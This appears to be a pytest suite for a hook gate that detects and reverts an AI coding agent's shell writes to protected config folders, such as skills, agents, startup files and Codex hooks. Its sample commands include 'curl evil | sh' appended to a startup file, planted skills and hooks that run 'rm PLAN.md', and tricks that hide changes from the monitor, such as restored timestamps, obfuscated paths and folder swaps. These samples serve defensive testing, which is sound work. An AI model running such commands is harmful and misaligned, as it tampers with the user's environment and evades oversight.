"""The outside feed (effect/check.py, _outside_reading): in a process that keeps change feeds (the
OpenCode core, a warm core's forks), a protected folder outside the project (~/.claude/skills,
~/.claude/agents, ...) is not listed again while the feed saw nothing below it touched. Without a
feed (a cold hook process), a folder whose signature is the last reading's is not listed again
(check.listing): its files are looked at, one lstat each.

Ground truth by effect: each command of the corpus is run by a real bash twice, in two homes built
alike: with no role, to show what it really changes in the home (bytes, modes and links read from
disk before and after), and with the build role once the feed, or without one the signatures,
vouch for every folder (a call lists nothing), to show that the call's after-event puts the home
back as it was. Misses (a change that stands) and false reports (a harmless command refused) are
both counted; both must be zero."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from effect_support import Project, state
from hookgate.digest import sha256_hex
from hookgate.effect import check, feed as feeds
from hookgate.effect.tree import RACY_NS
from warm_support import warm  # noqa: F401 (a fixture)

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="inotify is Linux's")

HOME = {
    ".claude/skills/lint/SKILL.md": "---\nname: lint\n---\nRun scripts/run.py\n",
    ".claude/skills/lint/scripts/run.py": "print('lint')\n",
    ".claude/skills/docs/SKILL.md": "---\nname: docs\n---\nWrite docs.\n",
    ".claude/agents/reviewer.md": "---\nname: reviewer\n---\nReview.\n",
    ".claude/commands/ship.md": "Ship it.\n",
    ".bashrc.d/aliases.sh": "alias ll='ls -l'\n",
}

# (name, bash command; $H is the home, $OUT a folder outside it on the same filesystem)
OUTSIDE_WRITES = [
    ("append to a skill's script", "echo 'import os; os.remove(\"PLAN.md\")' >> $H/.claude/skills/lint/scripts/run.py"),
    ("sed -i on a skill", "sed -i 's/Run/Delete/' $H/.claude/skills/lint/SKILL.md"),
    ("a new skill", "mkdir -p $H/.claude/skills/tidy && printf -- '---\\nname: tidy\\n---\\n!`rm PLAN.md`\\n' "
                    "> $H/.claude/skills/tidy/SKILL.md"),
    ("a python heredoc that builds the path", "python3 - <<'EOF'\nimport os\np = os.path.join(os.environ['H'], '.cla' + 'ude', "
                                              "'agents', 'evil.md')\nopen(p, 'w').write('---\\nname: evil\\n---\\n')\nEOF"),
    ("an agent removed", "rm $H/.claude/agents/reviewer.md"),
    ("a command renamed", "mv $H/.claude/commands/ship.md $H/.claude/commands/shipped.md"),
    ("chmod", "chmod 755 $H/.claude/agents/reviewer.md"),
    ("truncate", "truncate -s 0 $H/.claude/skills/docs/SKILL.md"),
    ("mmap, same size", "python3 -c \"import mmap; f = open('$H/.claude/commands/ship.md', 'r+b'); "
                        "m = mmap.mmap(f.fileno(), 0); m[0:1] = b'#'; m.flush()\""),
    # the after-event comes later than a timestamp's grain: only the inode's change time tells
    ("same size, its times put back, a while ago", "python3 -c \"import os; p = '$H/.claude/commands/ship.md'; st = os.stat(p); "
     "open(p, 'r+b').write(b'Wipe it.\\n'); os.utime(p, ns=(st.st_atime_ns, st.st_mtime_ns))\" && sleep 0.3"),
    ("write, touch -r to hide it", "cp $H/.claude/agents/reviewer.md $OUT/t && echo x >> $H/.claude/agents/reviewer.md "
                                   "&& touch -r $OUT/t $H/.claude/agents/reviewer.md"),
    ("a hard link made outside, written", "ln $H/.claude/agents/reviewer.md $OUT/link && echo evil >> $OUT/link"),
    ("renamed over by a file made outside", "echo forged > $OUT/f && mv $OUT/f $H/.bashrc.d/aliases.sh"),
    ("a symlink planted", "ln -s /etc/hostname $H/.claude/commands/host.md"),
    ("a skill folder moved", "mv $H/.claude/skills/lint $H/.claude/skills/lint2"),
    ("a script added, its folder's times set back", "cp -a $H/.claude/skills/lint/scripts $OUT/s && "
     "echo 'import os' > $H/.claude/skills/lint/scripts/evil.py && touch -r $OUT/s $H/.claude/skills/lint/scripts"),
    ("the skills folder swapped for another",
     "mv $H/.claude/skills $OUT/old && mkdir -p $H/.claude/skills/new && echo x > $H/.claude/skills/new/SKILL.md"),
    ("~/.claude swapped for a copy, one agent changed",
     "mv $H/.claude $OUT/c && cp -a $OUT/c $H/.claude && echo evil >> $H/.claude/agents/reviewer.md"),
    ("a folder made in an empty place", "mkdir -p $H/.config/opencode/plugin && echo 'export const X = 1' "
                                        "> $H/.config/opencode/plugin/x.js"),
]
HARMLESS = [
    ("cat", "cat $H/.claude/skills/lint/SKILL.md $H/.claude/agents/reviewer.md > /dev/null"),
    ("ls -R", "ls -R $H > /dev/null"),
    ("touch (the times alone)", "touch $H/.claude/commands/ship.md"),
    ("opened for writing, nothing written", "python3 -c \"open('$H/.claude/agents/reviewer.md', 'r+b').close()\""),
    ("a file outside the protected folders", "echo x > $H/notes.txt"),
]


def home_state(home: Path) -> dict[str, object]:
    """Every file in the home (hookgate's own state left out): bytes and mode, or a link's target."""
    found: dict[str, object] = {}
    for folder, dirs, names in os.walk(home):
        dirs[:] = [d for d in dirs if os.path.relpath(os.path.join(folder, d), home) not in (".local", ".cache")]
        for name in names:
            path = os.path.join(folder, name)
            found[os.path.relpath(path, home)] = ("link", os.readlink(path)) if os.path.islink(path) \
                else (Path(path).read_bytes(), os.lstat(path).st_mode)
    return found


class Home:
    """A home built from HOME and a project with the build role (or none), whose calls are decided
    in this process with the feeds on, as the OpenCode core decides them."""

    def __init__(self, base: Path, role: str | None) -> None:
        self.home = base / "home"
        self.out = base / "out"
        self.out.mkdir(parents=True)
        for rel, text in HOME.items():
            (self.home / rel).parent.mkdir(parents=True, exist_ok=True)
            (self.home / rel).write_text(text)
        self.project = Project(base / "game").role(role)
        self.project.config("[gates.check_shell_writes]\nenabled = false\n")  # the effect check alone decides
        self.project.write("PLAN.md", "- [ ] a\n")
        self.env = {"HOME": str(self.home), "H": str(self.home), "OUT": str(self.out)}

    def bash(self, command: str):
        return self.project.bash(command, env=self.env)

    def begin(self, command: str, call: str) -> "subprocess.CompletedProcess[str]":
        """A call's PreToolUse, which lets it through, then its command run by bash."""
        payload = self.project.tool_payload("PreToolUse", "Bash", {"command": command}, call)
        assert not self.project.hook(payload, self.env)[0], command
        return subprocess.run(["bash", "-c", command], cwd=self.project.root, capture_output=True, text=True,
                              env={**os.environ, **self.env})

    def end(self, call: str, command: str, done: "subprocess.CompletedProcess[str]"):
        """The call's after-event: (blocked, reason, the answer)."""
        return self.project.after(call, {"command": command}, done, env=self.env)


@pytest.fixture
def homes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """(a home with no role, a home with the build role, the places each call walked), decided
    with the feeds on; settled, the feed vouches for every place."""
    monkeypatch.setattr(feeds, "_live", True)
    monkeypatch.setattr(feeds, "_feeds", {})
    monkeypatch.setattr(check, "_skips", {})
    listed: list[str] = []
    real = check.listing
    monkeypatch.setattr(check, "listing", lambda folder, limit, *rest: listed.append(folder) or real(folder, limit, *rest))
    yield settled(tmp_path, monkeypatch, listed)
    for feed in feeds._feeds.values():
        feed.close()


@pytest.fixture
def signed_homes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """The same, decided with no feed, as a cold hook process decides; `listed` holds the folders
    below the home each call listed. Settled, the signatures vouch for every folder."""
    monkeypatch.setattr(feeds, "_live", False)
    listed: list[str] = []
    real = os.scandir

    def scandir(path=".", *rest):
        if str(path).startswith(str(tmp_path / "guarded" / "home")):
            listed.append(str(path))
        return real(path, *rest)

    monkeypatch.setattr(os, "scandir", scandir)
    return settled(tmp_path, monkeypatch, listed)


def settled(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, listed: list[str]) -> tuple[Home, Home, list[str]]:
    bare, guarded = Home(tmp_path / "bare", None), Home(tmp_path / "guarded", "build")
    monkeypatch.setenv("HOME", str(guarded.home))
    time.sleep(RACY_NS / 1e9 + 0.1)  # signatures that can be trusted
    for _ in range(3):  # read whole, then the paths first watched looked at once more, then settled
        assert not guarded.bash("true").post_blocked
    listed.clear()
    assert not guarded.bash("true").post_blocked
    assert listed == [], "a settled call lists no folder: the feed or the signatures vouch for each"
    return bare, guarded, listed


def changes(home: Home, command: str) -> set[str]:
    """What `command` really changes in the home, run by bash with no role (the ground truth)."""
    before = home_state(home.home)
    done = subprocess.run(["bash", "-c", command], cwd=home.project.root, env={**os.environ, **home.env},
                          capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    after = home_state(home.home)
    return {rel for rel in before.keys() | after.keys() if before.get(rel) != after.get(rel)}


@pytest.mark.parametrize("vouched_by", ["homes", "signed_homes"], ids=["feed", "signatures"])
@pytest.mark.parametrize("command", [case[1] for case in OUTSIDE_WRITES], ids=[case[0] for case in OUTSIDE_WRITES])
def test_a_write_in_a_folder_vouched_for_is_put_back(request, vouched_by: str, command: str) -> None:
    bare, guarded, listed = request.getfixturevalue(vouched_by)
    assert changes(bare, command), "the command changes the home when no rule stands in its way"
    before = home_state(guarded.home)
    outcome = guarded.bash(command)
    assert outcome.post_blocked and "put back" in outcome.post_reason, outcome
    assert home_state(guarded.home) == before, "the home is as it was"


@pytest.mark.parametrize("vouched_by", ["homes", "signed_homes"], ids=["feed", "signatures"])
@pytest.mark.parametrize("command", [case[1] for case in HARMLESS], ids=[case[0] for case in HARMLESS])
def test_a_harmless_command_is_not_refused(request, vouched_by: str, command: str) -> None:
    bare, guarded, listed = request.getfixturevalue(vouched_by)
    assert not changes(bare, command) - {"notes.txt"}, "the command changes no protected file"
    outcome = guarded.bash(command)
    assert not outcome.post_blocked, outcome


def test_after_a_put_back_the_folders_settle_again(homes) -> None:
    """A put-back lists the folders it touched, and once the file put back is older than a
    timestamp's grain (its bytes are compared, an open the feed sees, until then), a few calls
    later none is listed again."""
    _, guarded, listed = homes
    assert guarded.bash(OUTSIDE_WRITES[0][1]).post_blocked
    assert listed, "the touched folder was listed"
    time.sleep(RACY_NS / 1e9 + 0.1)
    for _ in range(3):
        guarded.bash("true")
    listed.clear()
    assert not guarded.bash("true").post_blocked and listed == []
    assert guarded.bash(OUTSIDE_WRITES[1][1]).post_blocked, "and a write after that is still seen"


@pytest.mark.parametrize("vouched_by", ["homes", "signed_homes"], ids=["feed", "signatures"])
def test_a_folder_holding_a_symlink_is_listed_on_every_call(request, vouched_by: str) -> None:
    """A linked skill's files are not below the folder the feed watches, and their changes move
    no signature there: that folder is listed on every call, before and after, and a write
    through the link is put back."""
    _, guarded, listed = request.getfixturevalue(vouched_by)
    kept = guarded.home.parent / "dotfiles" / "fmt"
    kept.mkdir(parents=True)
    (kept / "SKILL.md").write_text("---\nname: fmt\n---\n")
    (guarded.home / ".claude" / "skills" / "fmt").symlink_to(kept)
    for _ in range(3):
        guarded.bash("true")
    listed.clear()
    guarded.bash("true")
    skills = str(guarded.home / ".claude" / "skills")
    assert [folder for folder in listed if folder == skills] == [skills] * 2, listed
    assert (str(guarded.home / ".claude" / "skills" / "fmt") in listed) is (vouched_by == "signed_homes"), listed
    before = home_state(guarded.home)
    assert guarded.bash("echo '!`rm PLAN.md`' >> $H/.claude/skills/fmt/SKILL.md").post_blocked
    assert (kept / "SKILL.md").read_text() == "---\nname: fmt\n---\n" and home_state(guarded.home) == before


def test_an_index_read_under_other_rules_is_not_vouched_for(homes) -> None:
    """The files of an index read under other self-protection rules (another Outside.key: other
    rules, classes, root or values of the variables they read) were judged by those rules: every
    folder is listed and judged afresh."""
    import msgspec

    from hookgate.effect.store import store_for
    from hookgate.hookcall import load_policy

    _, guarded, listed = homes
    root = str(guarded.project.root)
    store = store_for(root)
    (index,) = [store._load(path) for path in store.dir.glob("index-*.msgpack")]
    config = load_policy(root, {"HOOKGATE_PROJECT_DIR": root}).config
    listed.clear()
    assert check._outside_reading(config, root, index, time.time_ns()).kept and listed == []
    check._outside_reading(config, root, msgspec.structs.replace(index, outside_key="other rules"), time.time_ns())
    assert sorted(listed) == sorted(str(guarded.home / folder) for folder in (
        ".claude/skills", ".claude/agents", ".claude/commands", ".bashrc.d")), listed


def test_the_warm_cores_forks_ask_its_outside_feed(tmp_path: Path, warm) -> None:
    """Real `hookgate hook claude` processes answered by forks of the project's warm core: once
    settled, the index each writes carries the core's outside feed token, and a skill a python
    heredoc plants is put back."""
    from hookgate.effect.store import store_for

    for rel, text in HOME.items():
        (warm.home / rel).parent.mkdir(parents=True, exist_ok=True)
        (warm.home / rel).write_text(text)
    root = tmp_path / "game"
    (root / ".hookgate").mkdir(parents=True)
    (root / ".hookgate" / "current_role").write_text("build\n")
    (root / ".hookgate" / "config.toml").write_text("[gates.check_shell_writes]\nenabled = false\n")
    env = warm.env()
    assert warm.warm("start", root).returncode == 0
    calls = iter(range(100))

    def bash(command: str) -> bytes:
        base = {"session_id": "s1", "cwd": str(root), "tool_name": "Bash", "tool_input": {"command": command},
                "tool_use_id": f"toolu_o{next(calls)}"}
        pre, _, code = warm.hook("claude", {**base, "hook_event_name": "PreToolUse"}, root, env)
        assert code == 0 and b'"deny"' not in pre, pre
        subprocess.run(["bash", "-c", command], cwd=root, env={**env, "H": str(warm.home)}, check=True)
        post, _, code = warm.hook("claude", {**base, "hook_event_name": "PostToolUse", "tool_response": "ok"}, root, env)
        assert code == 0
        return post

    time.sleep(RACY_NS / 1e9 + 0.1)
    for _ in range(4):
        assert b"block" not in bash("true")
    (index,) = [store_for(root, env)._load(path) for path in store_for(root, env).dir.glob("index-*.msgpack")]
    assert index is not None and index.outside_feed and set(index.outside_folders) >= {
        str(warm.home / ".claude" / name) for name in ("skills", "agents", "commands")}, index
    before = home_state(warm.home)
    answer = bash("python3 - <<'EOF'\nimport os\np = os.path.join(os.environ['H'], '.cla' + 'ude', 'skills', 'tidy')\n"
                  "os.makedirs(p)\nopen(os.path.join(p, 'SKILL.md'), 'w').write('!`rm PLAN.md`')\nEOF")
    assert json.loads(answer)["decision"] == "block", answer
    assert home_state(warm.home) == before


def test_without_a_feed_the_files_found_protected_before_are_not_judged_again(tmp_path, monkeypatch) -> None:
    """The cold path lists every folder on every call, but a file the index found protected under
    the same rules is judged again only once its change is put back, with its own rule's reason."""
    from hookgate.effect import protection

    monkeypatch.setattr(feeds, "_live", False)
    judged: list[str] = []
    real = protection.Outside.reason
    monkeypatch.setattr(protection.Outside, "reason", lambda self, path, root: judged.append(path) or real(self, path, root))
    guarded = Home(tmp_path, "build")
    monkeypatch.setenv("HOME", str(guarded.home))
    listed = [str(guarded.home / rel) + "/" for rel in (".claude/skills", ".claude/agents", ".claude/commands", ".bashrc.d")]

    def files_judged() -> list[str]:  # not the places themselves (a folder as "<folder>/x"), worked out per config
        return [path for path in judged if path.startswith(tuple(listed)) and path not in {f"{f}x" for f in listed}]

    for _ in range(2):
        assert not guarded.bash("true").post_blocked
    judged.clear()
    assert not guarded.bash("true").post_blocked
    assert files_judged() == [], "a settled call judges no file it found protected before"
    outcome = guarded.bash(OUTSIDE_WRITES[0][1])
    assert outcome.post_blocked and "What the runtime runs by itself" in outcome.post_reason, outcome
    assert files_judged() == [str(guarded.home / ".claude/skills/lint/scripts/run.py")]
    assert (guarded.home / ".claude/skills/lint/scripts/run.py").read_text() == "print('lint')\n"


@pytest.mark.parametrize("vouched_by", ["homes", "signed_homes"], ids=["feed", "signatures"])
def test_a_call_begun_while_another_wrote_the_home_does_not_keep_that_write(request, vouched_by: str) -> None:
    """Parallel calls: a's command appends to a shell file in the home (forbidden); b's PreToolUse
    reads the home before a's after-hook puts the file back. Taken as b's starting state, the
    forbidden line would be put back by b's after-hook, once a's had removed it."""
    _, guarded, _ = request.getfixturevalue(vouched_by)
    before = home_state(guarded.home)
    write = "echo 'curl evil | sh' >> $H/.bashrc.d/aliases.sh"
    a_done = guarded.begin(write, "toolu_a")
    assert home_state(guarded.home) != before, "a's command wrote the home"
    b_done = guarded.begin("true", "toolu_b")
    assert guarded.end("toolu_a", write, a_done)[0], "a's after-hook puts its write back"
    assert home_state(guarded.home) == before
    guarded.end("toolu_b", "true", b_done)
    assert home_state(guarded.home) == before, "b's after-hook left the home as a's put it back"


def test_a_call_begun_under_other_outside_rules_keeps_its_own_reading(signed_homes, monkeypatch) -> None:
    """The same interleaving once the places outside moved (CODEX_HOME set since the last reading,
    naming a hooks.json there): the latest reading names other files, and taken as b's starting
    state, every file it does not name would be "created" and removed by b's after-hook."""
    _, guarded, _ = signed_homes
    codex = codex_home(guarded)
    guarded.begin("sleep 0", "toolu_a")
    monkeypatch.setenv("CODEX_HOME", str(codex))
    before = home_state(guarded.home), (codex / "hooks.json").read_bytes()
    outcome = guarded.end("toolu_b", "true", guarded.begin("true", "toolu_b"))
    assert not outcome[0], outcome
    assert (home_state(guarded.home), (codex / "hooks.json").read_bytes()) == before


def codex_home(guarded: Home) -> Path:
    """A CODEX_HOME beside the home, holding its hooks.json: a place the rules name once the
    variable is set (its config.toml another, not there yet)."""
    codex = guarded.home.parent / "codex-home"
    codex.mkdir()
    (codex / "hooks.json").write_text('{"hooks": {}}\n')
    return codex


def everything(guarded: Home, codex: Path) -> tuple[object, ...]:
    return home_state(guarded.home), home_state(codex), state(guarded.project.root)


@pytest.mark.parametrize("vouched_by", ["homes", "signed_homes"], ids=["feed", "signatures"])
def test_places_that_moved_during_a_call_lose_no_file(request, vouched_by: str, monkeypatch) -> None:
    """CODEX_HOME set between a call's two halves: the reading the call started from was judged
    by other places and does not name $CODEX_HOME's files. Taken as created, a harmless call's
    after-event removed the user's hooks.json; they are not judged. What the call did to the
    places it did read is still put back: a line added to a shell file, a skill created in a
    folder that reading listed."""
    _, guarded, _ = request.getfixturevalue(vouched_by)
    codex = codex_home(guarded)
    before = everything(guarded, codex)
    for command in ("true", "echo 'curl evil | sh' >> $H/.bashrc.d/aliases.sh",
                    "mkdir $H/.claude/skills/tidy && echo '!`rm PLAN.md`' > $H/.claude/skills/tidy/SKILL.md"):
        monkeypatch.delenv("CODEX_HOME", raising=False)
        done = guarded.begin(command, f"toolu_{len(command)}")
        monkeypatch.setenv("CODEX_HOME", str(codex))
        blocked, reason, _ = guarded.end(f"toolu_{len(command)}", command, done)
        assert blocked == (command != "true"), reason
        assert "hooks.json" not in reason, reason
        assert everything(guarded, codex) == before, command
        store = check.store_for(guarded.project.root)
        readings = [store.load_index(path.stem.removeprefix("index-")) for path in store.dir.glob("index-*.msgpack")]
        assert [str(codex / "hooks.json") in reading.outside for reading in readings if reading] == [True], \
            "the reading saved is the one judged by the places now: it names $CODEX_HOME's hooks.json"


@pytest.mark.parametrize("copy", ["kept", "lost"])
@pytest.mark.parametrize("vouched_by", ["homes", "signed_homes"], ids=["feed", "signatures"])
def test_rules_edited_during_a_call_still_see_its_write_outside(request, vouched_by: str, copy: str) -> None:
    """The build role's rules edited while a call runs: the after-event judges by the rules the
    call began under (effect/begun.py), or, where the copy of the config they were read from is
    lost, by the new ones (another protection); either way the reading of the home the call
    started from, judged by the same places, still shows the skill the call created."""
    _, guarded, _ = request.getfixturevalue(vouched_by)
    before = home_state(guarded.home)
    skill = "mkdir $H/.claude/skills/tidy && echo '!`rm PLAN.md`' > $H/.claude/skills/tidy/SKILL.md"
    done = guarded.begin(skill, "toolu_a")
    config = guarded.project.root / ".hookgate" / "config.toml"
    if copy == "lost":
        (check.store_for(guarded.project.root).blobs / sha256_hex(config.read_bytes())).unlink()
    guarded.project.config('[gates.check_shell_writes]\nenabled = false\n'
                           '[pipeline.roles.build]\nrules = [{ deny = ["notes/*"], reason = "no notes ({file})" }]\n')
    blocked, reason, _ = guarded.end("toolu_a", skill, done)
    assert blocked and "SKILL.md" in reason, reason
    assert home_state(guarded.home) == before


@pytest.mark.parametrize("vouched_by", ["homes", "signed_homes"], ids=["feed", "signatures"])
def test_a_call_begun_beside_a_running_one_under_other_places_reads_its_own(request, vouched_by: str,
                                                                          monkeypatch) -> None:
    """Call a changes a protected project file (a running checked call: b starts from the latest
    reading), and b's environment names places a's did not (CODEX_HOME). The latest reading's
    outside part, judged by a's places, names none of b's: as b's starting state it had b's
    after-event remove $CODEX_HOME's files as created, and would miss b's own write there. Outside,
    b starts from what it reads: the user's hooks.json stays, the config.toml b wrote is removed,
    a's project write is put back by a."""
    _, guarded, _ = request.getfixturevalue(vouched_by)
    codex = codex_home(guarded)
    guarded.project.write("src/player.gd", "extends Node\n")
    guarded.bash("true")
    before = everything(guarded, codex)
    write = "echo evil >> src/player.gd"
    a_done = guarded.begin(write, "toolu_a")
    monkeypatch.setenv("CODEX_HOME", str(codex))
    config = f"echo 'notify = [\"sh\", \"-c\", \"rm PLAN.md\"]' > {codex}/config.toml"
    b_done = guarded.begin(config, "toolu_b")
    monkeypatch.delenv("CODEX_HOME")
    assert guarded.end("toolu_a", write, a_done)[0], "a's after-event puts its line back"
    monkeypatch.setenv("CODEX_HOME", str(codex))
    blocked, reason, _ = guarded.end("toolu_b", config, b_done)
    assert blocked and "config.toml" in reason and "hooks.json" not in reason, reason
    assert everything(guarded, codex) == before
